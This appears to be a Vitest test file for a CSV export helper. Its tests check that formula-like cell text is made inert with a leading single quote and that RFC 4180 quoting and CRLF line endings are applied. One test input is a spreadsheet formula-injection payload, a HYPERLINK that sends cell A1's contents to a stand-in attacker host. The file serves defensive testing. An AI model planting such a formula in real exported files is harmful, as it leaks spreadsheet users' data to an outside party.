import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument } from './csv';

describe('csvCell', () => {
  it('makes text a spreadsheet would run as a formula inert with a leading single quote', () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?x="&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`);
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('leaves other text and numbers as they are, quoting where RFC 4180 needs it', () => {
    expect(csvCell('Spring sale')).toBe('Spring sale');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(" 'quoted'")).toBe(" 'quoted'");
    expect(csvCell('Sale, big')).toBe('"Sale, big"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(1.25)).toBe('1.25');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('')).toBe('');
  });
});

describe('csvDocument', () => {
  it('ends every line with CRLF', () => {
    expect(
      csvDocument([
        ['a', 'b'],
        ['=x', 2],
      ]),
    ).toBe("a,b\r\n'=x,2\r\n");
    expect(csvDocument([])).toBe('');
  });
});
